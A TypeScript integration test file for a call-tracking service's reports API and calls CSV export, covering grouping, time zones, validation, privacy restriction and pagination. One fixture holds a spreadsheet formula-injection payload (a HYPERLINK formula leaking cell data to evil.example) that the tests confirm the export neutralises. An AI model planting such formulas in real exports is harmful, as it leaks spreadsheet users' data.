import type { TestApp } from '../support/test-app';
import { adminApi, BACKENDS, createTrackedSite, expectProblem, useTestApp, visitWithNumber, type TrackedSite } from '../support/fixtures';
import { newCallSid, sendSignedWebhook } from '../support/twilio-webhooks';
import { parseCsv } from '../support/parse-csv';

/**
 * Reports and the CSV export through the HTTP API: visits from the tracking API, calls through signed
 * Twilio webhooks, then GET /v1/reports/calls and GET /v1/calls.csv as a client's dashboard would.
 */

const FIRST_CALLER = '+442079460101';
const SECOND_CALLER = '+442079460102';
const HOUR = 60 * 60 * 1000;
const DAY = 24 * HOUR;
const dateOf = (ms: number) => new Date(ms).toISOString().slice(0, 10);
/** A campaign name that a spreadsheet would run as a formula. */
const EVIL_CAMPAIGN = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")';

/** A call from `from` to `to`, answered with `talkSeconds` of talk or not answered at all. */
async function call(t: TestApp, from: string, to: string, talkSeconds: number | null): Promise<string> {
  const callSid = newCallSid();
  const common = { AccountSid: `AC${'0'.repeat(32)}`, CallSid: callSid, From: from, To: to, Direction: 'inbound', ApiVersion: '2010-04-01' };
  await sendSignedWebhook(t.app, '/webhooks/twilio/voice', { ...common, CallStatus: 'ringing' }).expect(200);
  if (talkSeconds !== null) {
    await sendSignedWebhook(t.app, '/webhooks/twilio/dial', { ...common, CallStatus: 'in-progress', DialCallStatus: 'completed', DialCallDuration: String(talkSeconds), DialCallSid: newCallSid() }).expect(200);
  } else {
    await sendSignedWebhook(t.app, '/webhooks/twilio/dial', { ...common, CallStatus: 'in-progress', DialCallStatus: 'no-answer' }).expect(200);
  }
  const status = talkSeconds !== null ? 'completed' : 'no-answer';
  await sendSignedWebhook(t.app, '/webhooks/twilio/status', { ...common, CallStatus: status, CallDuration: String((talkSeconds ?? 0) + 9), SequenceNumber: '0' }).expect(204);
  return callSid;
}

describe.each(BACKENDS)('reports and the calls CSV on %s backends', (backend, available) => {
  const maybe = available ? it : it.skip;
  const app = useTestApp(backend, available);

  /**
   * Three calls: the first caller from a Google ad with a formula for a campaign (answered, 47 s),
   * the second caller from Bing (not answered), then 17 hours later the first caller again from a new
   * Google visit (answered, 30 s: a repeat caller).
   */
  async function arrange(t: TestApp): Promise<{ site: TrackedSite; start: number; sids: string[] }> {
    const site = await createTrackedSite(t, { numbers: 2 });
    // Each test starts at 10:00 UTC on a day of its own (the app, and its clock, serve the whole file).
    const start = Math.ceil((t.clock.now() + HOUR) / DAY) * DAY + 10 * HOUR;
    t.clock.advance(start - t.clock.now());
    const google = await visitWithNumber(t, site.siteKey, { url: `https://shop.example/boilers?utm_source=google&utm_medium=cpc&utm_campaign=${encodeURIComponent(EVIL_CAMPAIGN)}&utm_term=boiler%20repair` });
    const bing = await visitWithNumber(t, site.siteKey, { url: 'https://shop.example/?utm_source=bing&utm_medium=cpc&utm_campaign=spring' });
    t.clock.advance(60_000);
    const sids = [await call(t, FIRST_CALLER, google.number.e164, 47)];
    t.clock.advance(60_000);
    sids.push(await call(t, SECOND_CALLER, bing.number.e164, null));
    t.clock.advance(17 * HOUR);
    const again = await visitWithNumber(t, site.siteKey, { url: 'https://shop.example/offers?utm_source=google&utm_medium=cpc&utm_campaign=winter', visitorId: google.visitorId });
    t.clock.advance(60_000);
    sids.push(await call(t, FIRST_CALLER, again.number.e164, 30));
    t.clock.advance(60_000);
    // The visits reach Postgres in batches, as the service does every second.
    await t.container.leaseHistory.flush();
    return { site, start, sids };
  }

  const report = (t: TestApp, site: TrackedSite, query: string) => adminApi(t).get(`/v1/reports/calls?siteId=${site.siteId}&${query}`);

  maybe('when calls came from two sources, then the report counts each source, most calls first, with answered, missed and repeat callers', async () => {
    // Arrange
    const t = app();
    const { site, start } = await arrange(t);

    // Act
    const res = await report(t, site, `groupBy=source&from=${new Date(start - HOUR).toISOString()}`).expect(200);

    // Assert
    expect(res.body).toEqual({
      siteId: site.siteId,
      from: new Date(start - HOUR).toISOString(),
      to: new Date(t.clock.now()).toISOString(),
      timeZone: 'UTC',
      groupBy: ['source'],
      totals: { calls: 3, answered: 2, missed: 1, firstTimeCallers: 2, repeatCallers: 1, talkSecondsTotal: 77, talkSecondsAverage: 38.5, answerRate: 0.6667 },
      groups: [
        { key: { source: 'google' }, calls: 2, answered: 2, missed: 0, firstTimeCallers: 1, repeatCallers: 1, talkSecondsTotal: 77, talkSecondsAverage: 38.5, answerRate: 1 },
        { key: { source: 'bing' }, calls: 1, answered: 0, missed: 1, firstTimeCallers: 1, repeatCallers: 0, talkSecondsTotal: 0, talkSecondsAverage: null, answerRate: 0 },
      ],
    });
  });

  maybe('when grouped by day and source in New York, then the late call falls on the same local day; in London on the next', async () => {
    // Arrange: the calls are at 10:01 and 10:02 UTC one day (in winter: London is on UTC), and 03:03 UTC the next.
    const t = app();
    const { site, start } = await arrange(t);
    const [today, tomorrow] = [dateOf(start), dateOf(start + DAY)];

    // Act
    const ny = await report(t, site, 'groupBy=day,source&timeZone=America/New_York').expect(200);
    const london = await report(t, site, 'groupBy=day,source&timeZone=Europe/London').expect(200);

    // Assert
    const keysAndCalls = (body: { groups: { key: object; calls: number }[] }) => body.groups.map((g) => [g.key, g.calls]);
    expect(keysAndCalls(ny.body)).toEqual([
      [{ day: today, source: 'google' }, 2],
      [{ day: today, source: 'bing' }, 1],
    ]);
    expect(keysAndCalls(london.body)).toEqual([
      [{ day: today, source: 'bing' }, 1],
      [{ day: today, source: 'google' }, 1],
      [{ day: tomorrow, source: 'google' }, 1],
    ]);
    expect(ny.body).toMatchObject({ timeZone: 'America/New_York', groupBy: ['day', 'source'] });
  });

  maybe('when grouped by campaign, keyword and landing page, then each is read from the visit, landing pages without their query string', async () => {
    const t = app();
    const { site } = await arrange(t);

    const campaigns = await report(t, site, 'groupBy=campaign').expect(200);
    const keywords = await report(t, site, 'groupBy=keyword').expect(200);
    const pages = await report(t, site, 'groupBy=landingPage').expect(200);

    expect(campaigns.body.groups.map((g: { key: object }) => g.key)).toEqual([{ campaign: EVIL_CAMPAIGN }, { campaign: 'spring' }, { campaign: 'winter' }]);
    expect(keywords.body.groups.map((g: { key: object; calls: number }) => [g.key, g.calls])).toEqual([[{ keyword: null }, 2], [{ keyword: 'boiler repair' }, 1]]);
    expect(pages.body.groups.map((g: { key: object }) => g.key)).toEqual([{ landingPage: 'https://shop.example/' }, { landingPage: 'https://shop.example/boilers' }, { landingPage: 'https://shop.example/offers' }]);
  });

  maybe('when the query is not valid, then 400 problem+json and nothing else', async () => {
    const t = app();
    const site = await createTrackedSite(t, { numbers: 0 });
    const now = t.clock.now();

    for (const query of [
      'groupBy=country',
      'groupBy=day,hour',
      'groupBy=day,source,medium',
      'timeZone=Mars/Olympus',
      'timeZone=',
      `from=${new Date(now - 401 * 24 * HOUR).toISOString()}&to=${new Date(now).toISOString()}`,
      `from=${new Date(now).toISOString()}&to=${new Date(now - HOUR).toISOString()}`,
      'from=yesterday',
      // The default from, 30 days before, falls in the year 0: Postgres cannot take it.
      'to=0001-01-05T00:00:00Z',
      'unknown=1',
    ]) {
      expectProblem(await report(t, site, query), 400);
    }
    expectProblem(await adminApi(t).get('/v1/reports/calls?groupBy=source'), 400);
    expectProblem(await adminApi(t).get('/v1/calls.csv?timeZone=Nowhere/Atlantis'), 400);
  });

  maybe('when the zone is known to Node but not to Postgres, then a report by day or hour is a 400 problem, not a 500', async () => {
    // Arrange: US/Pacific-New is in Node's ICU (a link the tz database has dropped) but Postgres, which buckets the days, refuses it.
    const t = app();
    const site = await createTrackedSite(t, { numbers: 0 });
    await t.container.db.query(
      `INSERT INTO calls (call_sid, site_id, to_number, status, status_rank, started_at, inbound_recorded, source, medium)
       VALUES ('CA' || replace($1::text, '-', ''), $1::uuid, '+441134960001', 'completed', 3, $2, true, 'google', 'cpc')`,
      [site.siteId, new Date(t.clock.now() - HOUR)],
    );

    for (const groupBy of ['day', 'hour,source']) {
      // Act
      const res = await report(t, site, `groupBy=${groupBy}&timeZone=US/Pacific-New`);

      // Assert
      expectProblem(res, 400);
    }
    expect((await report(t, site, 'groupBy=day&timeZone=America/Los_Angeles').expect(200)).body.totals.calls).toBe(1);
  });

  maybe('when the calls are exported, then the CSV holds one row per call, oldest first, every formula neutralised', async () => {
    // Arrange
    const t = app();
    const { site, sids, start } = await arrange(t);

    // Act
    const res = await adminApi(t).get(`/v1/calls.csv?siteId=${site.siteId}&timeZone=America/New_York`).expect(200);

    // Assert
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment/);
    const [header, ...rows] = parseCsv(res.text);
    const cell = (row: string[], name: string) => row[header.indexOf(name)];
    expect(header).toEqual(expect.arrayContaining(['id', 'started_at', 'started_at_local', 'from', 'tracking_number', 'status', 'answered', 'talk_seconds', 'source', 'medium', 'campaign', 'keyword', 'landing_page', 'attribution', 'repeat_caller']));
    expect(rows).toHaveLength(3);
    const calls = (await adminApi(t).get(`/v1/calls?siteId=${site.siteId}`).expect(200)).body.data as { id: string; callSid: string }[];
    expect(rows.map((r) => cell(r, 'id'))).toEqual(sids.map((sid) => calls.find((c) => c.callSid === sid)?.id));
    expect(rows.map((r) => [cell(r, 'from'), cell(r, 'source'), cell(r, 'answered'), cell(r, 'talk_seconds'), cell(r, 'repeat_caller'), cell(r, 'status')])).toEqual([
      [`'${FIRST_CALLER}`, 'google', 'true', '47', 'false', 'completed'],
      [`'${SECOND_CALLER}`, 'bing', 'false', '', 'false', 'no-answer'],
      [`'${FIRST_CALLER}`, 'google', 'true', '30', 'true', 'completed'],
    ]);
    // A formula starts with an apostrophe, and so does a leading + (the caller's number): nothing runs in a spreadsheet.
    expect(cell(rows[0], 'campaign')).toBe(`'${EVIL_CAMPAIGN}`);
    expect(res.text).not.toMatch(/(^|,)"?=HYPERLINK/m);
    expect(cell(rows[2], 'started_at')).toBe(`${dateOf(start + DAY)}T03:03:00.000Z`);
    expect(cell(rows[2], 'started_at_local')).toBe(`${dateOf(start)}T22:03:00-05:00`);
  });

  maybe('when a caller restricts processing, then their calls leave the report and the CSV', async () => {
    // Arrange
    const t = app();
    const { site } = await arrange(t);
    await adminApi(t).post('/v1/privacy/requests', { clientId: site.clientId, type: 'restriction', subject: { phone: SECOND_CALLER } }).expect(201);

    // Act
    const res = await report(t, site, 'groupBy=source').expect(200);
    const csv = parseCsv((await adminApi(t).get(`/v1/calls.csv?siteId=${site.siteId}`).expect(200)).text);

    // Assert
    expect(res.body.groups.map((g: { key: object }) => g.key)).toEqual([{ source: 'google' }]);
    expect(res.body.totals.calls).toBe(2);
    expect(csv).toHaveLength(3);
    expect(csv.flat()).not.toContain(`'${SECOND_CALLER}`);
    expect(csv.flat()).toContain(`'${FIRST_CALLER}`);
  });

  maybe('when more calls match than one page holds, then the CSV streams every one of them once, in order', async () => {
    // Arrange: 2,345 calls written straight to the database (three keyset pages), a few at the same instant.
    const t = app();
    const site = await createTrackedSite(t, { numbers: 0 });
    await t.container.db.query(
      `INSERT INTO calls (call_sid, site_id, to_number, status, status_rank, started_at, inbound_recorded, source, medium)
       SELECT 'CA' || lpad(i::text, 32, '0') || $2, $1, '+441134960001', 'completed', 3, timestamptz '2026-11-01T00:00:00Z' + (i / 3) * interval '1 minute', true, 'google', 'cpc'
         FROM generate_series(1, 2345) AS i`,
      [site.siteId, site.siteId.slice(0, 4)],
    );

    // Act
    const res = await adminApi(t).get(`/v1/calls.csv?siteId=${site.siteId}`).expect(200);

    // Assert
    const rows = parseCsv(res.text).slice(1);
    expect(rows).toHaveLength(2345);
    expect(new Set(rows.map((r) => r[0])).size).toBe(2345);
    const started = rows.map((r) => r[2]);
    expect(started).toEqual([...started].sort());
  });
});
